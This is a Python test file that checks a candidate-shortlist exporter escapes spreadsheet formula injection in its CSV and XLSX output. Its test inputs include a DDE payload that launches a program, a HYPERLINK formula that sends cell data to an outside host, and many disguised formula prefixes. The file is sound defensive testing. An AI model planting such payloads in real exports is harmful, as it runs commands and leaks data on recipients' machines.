"""The shortlist's files hold what was found and nothing that a spreadsheet would run."""

import csv
import io
import zipfile
from typing import Any

import pytest
from lxml import etree

from core.domain.candidate import Candidate, Contact, Flag
from core.domain.job import Criterion, Rubric
from core.domain.run import DecisionRecord, Item, Row, Run
from core.domain.verdict import Finding
from core.shortlist import clean_cell, rank, to_csv, to_xlsx
from core.shortlist.table import HEADER

RUNS = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "attack",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tplain",
        "\rplain",
        "\nplain",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(A1)",
        "  =1+1",
        "\u00a0=1+1",
        "\u3000＝1+1",
        '"=1+1',
        "'=1+1",
        "“=1+1”",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\u202e=1+1",
        "\x00=1+1",
        "\x1b=1+1",
        " \u200b \"' @SUM(A1)",
        "+1 202-555-0101",
        "+12025550101",
        RUNS,
        '=HYPERLINK("http://example.com?"&A1,"x")',
    ],
)
def test_what_could_run_begins_with_a_mark(attack: str) -> None:
    cell = clean_cell(attack)
    assert cell.startswith("'")
    assert cell[1:].strip() in attack


@pytest.mark.parametrize(
    "plain", ["7", "-7", "+7", "-7.5", "7,5", "0", "", "Ann Lee", "a=b", "3+ years", "C++", "50 %"]
)
def test_plain_numbers_and_words_stay_as_they_are(plain: str) -> None:
    assert clean_cell(plain) == plain


def test_control_characters_are_out_and_breaks_are_spaces() -> None:
    assert clean_cell("a\x00b\x07c\r\nd\te\u2028f\u200bg\x7f") == "abc d e fg"


def test_a_program_that_parts_at_semicolons_runs_nothing_either() -> None:
    assert clean_cell("Led a team; =1+1;@x; fine") == "Led a team; '=1+1;'@x; fine"
    assert clean_cell('a;"=1+1') == "a;\"'=1+1"


def test_a_cell_is_never_longer_than_a_spreadsheet_takes() -> None:
    assert len(clean_cell("=" + "x" * 100_000)) < 32_767


RUBRIC = Rubric(
    criteria=(
        Criterion(id="c1", text="Led 5+ people", kind="must", weight=5),
        Criterion(id="c2", text="=German", kind="must", weight=1),
    )
)
RUN = Run(
    id="r123",
    job_id="j1",
    job_title="Lead",
    rubric=RUBRIC,
    engine="local",
    model="keyword-match-1",
    created="2026-01-02T03:04:05+00:00",
)


def ranked(**changes: Any) -> tuple[Any, ...]:
    fields: dict[str, Any] = {
        "contact": Contact(name="Zoë Ağa", email="zoe@example.com", phone="+44 20 7946 0000"),
        "score": 8.33,
        "category": "considered",
        "reason": "",
        "explanation": "Keyword match:\n1 of 2.",
        "strengths": ("Led 5+ people: “Led 7”", "=2"),
        "weaknesses": ("German: not found",),
        "findings": (
            Finding(criterion_id="c1", verdict="met"),
            Finding(criterion_id="c2", verdict="missing"),
        ),
        "flags": (Flag(kind="duplicate"), Flag(kind="hidden_text", detail="30 characters can't be seen.")),
        "engine": "local",
        "model": "keyword-match-1",
    }
    item = Item(id="i", file=changes.pop("file", "zoe.pdf"), sha256="s")
    rows = (Row(item=item, outcome=Candidate.model_validate({**fields, **changes})),)
    record = DecisionRecord(job_id="j1", sha256="s", decision="shortlist", at="2026-01-03")
    return rank(RUN, rows, {"s": record})


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def test_the_csv_has_the_agreed_header_bom_and_line_ends() -> None:
    content = to_csv(RUN, ())
    assert content == (
        b"\xef\xbb\xbfRank,Name,Email,Phone,Score,Category,Decision,Explanation,Strengths,Weaknesses,"
        b"Missing must-haves,Flags,File,Engine,Run\r\n"
    )
    assert to_csv(RUN, ranked()).count(b"\n") == to_csv(RUN, ranked()).count(b"\r\n") == 2


def test_the_csv_holds_the_candidate() -> None:
    header, cells = read(to_csv(RUN, ranked()))
    assert dict(zip(header, cells, strict=True)) == {
        "Rank": "1",
        "Name": "Zoë Ağa",
        "Email": "zoe@example.com",
        "Phone": "'+44 20 7946 0000",
        "Score": "8.33",
        "Category": "considered",
        "Decision": "shortlist",
        "Explanation": "Considered, although 8.3: one must-have wasn't found – =German. Keyword match: 1 of 2.",
        "Strengths": "Led 5+ people: “Led 7”; '=2",
        "Weaknesses": "German: not found",
        "Missing must-haves": "'=German",
        "Flags": "The same file was given more than once. 30 characters can't be seen.",
        "File": "zoe.pdf",
        "Engine": "Keyword match · no AI",
        "Run": "r123",
    }


def test_the_engine_that_judged_is_named() -> None:
    (_, cells) = read(to_csv(RUN, ranked(engine="openai", model="gpt-6-luna")))
    assert cells[HEADER.index("Engine")] == "AI reading · gpt-6-luna"


def test_no_field_of_a_candidate_gets_a_formula_into_the_csv() -> None:
    content = to_csv(
        RUN,
        ranked(
            contact=Contact(name=RUNS, email=RUNS, phone=RUNS),
            explanation=RUNS,
            strengths=(RUNS,),
            weaknesses=(RUNS,),
            flags=(Flag(kind="duplicate", detail=RUNS),),
            file=RUNS,
            engine="openai",
            model=RUNS,
        ),
    )
    (_, cells) = read(content)
    assert not [cell for cell in cells if cell.lstrip(" \"'")[:1] in tuple("=+-@") and cell[0] != "'"]
    assert sum(cell.startswith("'=") for cell in cells) == 8


def test_a_name_that_is_no_text_is_still_written() -> None:
    (_, cells) = read(to_csv(RUN, ranked(contact=Contact(), file="bad\udcff\u202e.pdf")))
    assert cells[HEADER.index("File")] == "bad\ufffd.pdf"
    assert cells[HEADER.index("Name")] == "Unknown · bad\ufffd.pdf"


SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def sheet(content: bytes) -> tuple[etree._Element, list[str]]:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        texts = etree.fromstring(book.read("xl/sharedStrings.xml"))
        strings = ["".join(one.itertext()) for one in texts.iter(f"{SHEET}si")]
        return etree.fromstring(book.read("xl/worksheets/sheet1.xml")), strings


def test_the_xlsx_stores_every_text_as_text_and_the_score_as_a_number() -> None:
    table, strings = sheet(
        to_xlsx(RUN, ranked(contact=Contact(name="=1+1", email="http://example.com"), strengths=(RUNS,)))
    )
    assert not list(table.iter(f"{SHEET}f"))
    assert not list(table.iter(f"{SHEET}hyperlink"))
    assert strings[: len(HEADER)] == list(HEADER)
    assert {"=1+1", "http://example.com", RUNS} <= set(strings)
    numbers = [c.findtext(f"{SHEET}v") for c in table.iter(f"{SHEET}c") if c.get("t") is None]
    assert numbers == ["1", "8.33"]
    assert next(table.iter(f"{SHEET}pane")).get("state") == "frozen"


def test_an_xlsx_without_candidates_or_with_odd_names_is_written() -> None:
    assert to_xlsx(RUN, ())[:2] == b"PK"
    _, strings = sheet(
        to_xlsx(RUN, ranked(contact=Contact(name="a\x00\udc80\uffff"), explanation="x" * 99_999))
    )
    assert "a\ufffd" in strings
